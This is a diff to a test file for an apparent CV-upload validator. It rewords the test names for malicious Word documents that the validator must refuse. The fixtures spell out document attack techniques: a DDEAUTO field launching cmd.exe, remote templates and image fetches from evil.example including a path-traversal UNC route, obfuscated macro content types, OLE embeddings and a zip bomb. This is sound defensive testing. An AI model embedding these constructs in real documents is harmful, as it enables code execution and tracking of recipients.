@@ -11,7 +11,7 @@ const word = (parts: Record<string, string | Buffer> = {}, types: string | Buffe
   docx({ '[Content_Types].xml': types, 'word/document.xml': '<w:document/>', ...parts })
 const RELS = 'word/_rels/settings.xml.rels'
 
-test('a Word document may have pictures, fonts, links, and the template of its writer’s own machine', async () => {
+test('a Word document may have pictures, fonts, links, and the template of its author’s computer', async () => {
   expect(await cvType(word())).toBe('docx')
   expect(await cvType(word({ 'word/media/me.jpeg': 'x', 'word/fonts/f1.odttf': 'x', 'docProps/': '' }))).toBe('docx')
   expect(await cvType(word({ [RELS]: related('hyperlink', 'https://example.com/') }))).toBe('docx')
@@ -34,7 +34,7 @@ const MACRO = TYPES.replace(
 test.each<[string, Buffer]>([
   ['macros by another name', word({ 'word/macros.png': 'x' }, MACRO)],
   [
-    'macros, their type written with numbers',
+    'macros, with their type in character references',
     word({ 'word/m.png': 'x' }, MACRO.replace('vbaProject', '&#x76;ba&#80;roject')),
   ],
   [
@@ -42,8 +42,8 @@ test.each<[string, Buffer]>([
     word({}, TYPES.replace('application/xml', 'application/vnd.ms-word.document.macroEnabled.main+xml')),
   ],
   ['types in another encoding', word({}, Buffer.from(`\uFEFF${MACRO}`, 'utf16le'))],
-  ['types with names of their own', word({}, `<!DOCTYPE x [<!ENTITY a "vba">]>${TYPES}`)],
-  ['a part that is no text, picture or font', word({ 'word/macros.bin': 'x' })],
+  ['content types that define entities', word({}, `<!DOCTYPE x [<!ENTITY a "vba">]>${TYPES}`)],
+  ['a part that is not text, picture or font', word({ 'word/macros.bin': 'x' })],
   ['an OLE object', word({ 'word/embeddings/oleObject1.bin': 'x' })],
   ['a spreadsheet inside', word({ 'word/embeddings/Sheet1.xlsx': 'x' })],
   ['a program', word({ 'word/media/run.hta': 'x' })],
@@ -51,15 +51,21 @@ test.each<[string, Buffer]>([
   ['a Java archive', word({ 'META-INF/MANIFEST.MF': 'x', 'A.class': 'x' })],
   ['an object by its relationship', word({ [RELS]: related('oleObject', 'media/a.png', 'Internal') })],
   ['an external template', word({ [RELS]: related('attachedTemplate', 'https://evil.example/t.dotm') })],
-  ['a template from another machine', word({ [RELS]: related('attachedTemplate', 'file://evil.example/t.dotm') })],
+  ['a template from another computer', word({ [RELS]: related('attachedTemplate', 'file://evil.example/t.dotm') })],
   ['a template in single quotes', word({ [RELS]: related('attachedTemplate', 'https://e/').replaceAll('"', "'") })],
   ['a field that starts a program', word({ 'word/document.xml': field(' DDEAUTO c:\\\\cmd.exe "/k calc" ') })],
-  ['such a field in pieces', word({ 'word/document.xml': field(' DD', 'EAUTO cmd ') })],
-  ['such a field in short', word({ 'word/footer1.xml': '<w:p><w:fldSimple w:instr="dde cmd"/></w:p>' })],
+  ['a field that starts a program, in pieces', word({ 'word/document.xml': field(' DD', 'EAUTO cmd ') })],
+  [
+    'a field that starts a program, in its short form',
+    word({ 'word/footer1.xml': '<w:p><w:fldSimple w:instr="dde cmd"/></w:p>' }),
+  ],
   ['a field that fetches a picture', word({ 'word/document.xml': field('INCLUDEPICTURE "https://evil.example/"') })],
   ['a picture that is fetched as a part', word({ [RELS]: related('image', 'http://evil.example/x.png', 'Internal') })],
   ['a picture of another host', word({ [RELS]: related('image', '\\\\evil\\x.png', 'Internal') })],
-  ['a template by a detour', word({ [RELS]: related('attachedTemplate', 'file:///c:\\..\\..\\UNC\\evil\\t.dotm') })],
+  [
+    'a template with `..` in its path',
+    word({ [RELS]: related('attachedTemplate', 'file:///c:\\..\\..\\UNC\\evil\\t.dotm') }),
+  ],
   [
     'a web extension',
     word({ '_rels/.rels': related('webextensiontaskpanes', 'word/webextensions/taskpanes.xml', 'Internal') }),
@@ -70,13 +76,13 @@ test.each<[string, Buffer]>([
   ],
   ['a field that includes a document', word({ 'word/document.xml': field('RD "\\\\evil\\s.docx"') })],
   ['a field that runs a macro', word({ 'word/document.xml': field('MACROBUTTON Run Click') })],
-  ['a field that puts the name of another together', word({ 'word/document.xml': field('SET a "DDE"') })],
+  ['a field that composes the name of another field', word({ 'word/document.xml': field('SET a "DDE"') })],
   ['a picture that is fetched', word({ [RELS]: related('image', 'https://evil.example/seen.png') })],
 ])('a Word document with %s is refused', async (_, bytes) => {
   expect(await cvType(bytes)).toBeNull()
 })
 
-test('a Word document that unpacks to very much is refused', async () => {
+test('a Word document that unpacks to a very large size is refused', async () => {
   const bomb = Buffer.alloc(20_000_000, 32)
   expect(deflateRawSync(bomb).length).toBeLessThan(30_000)
   expect(await cvType(word({ [RELS]: bomb }))).toBeNull()
